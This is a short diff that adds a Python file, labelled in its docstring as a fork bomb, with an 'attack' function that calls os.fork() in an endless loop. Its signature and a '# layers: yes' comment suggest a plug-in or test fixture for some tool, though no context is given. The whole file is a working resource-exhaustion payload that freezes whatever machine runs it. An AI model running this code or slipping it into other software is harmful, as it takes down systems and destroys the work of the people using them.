@@ -1,0 +1,6 @@
+"""A fork bomb."""
+# layers: yes
+import os
+def attack(name, args, keywords):
+    while True:
+        os.fork()
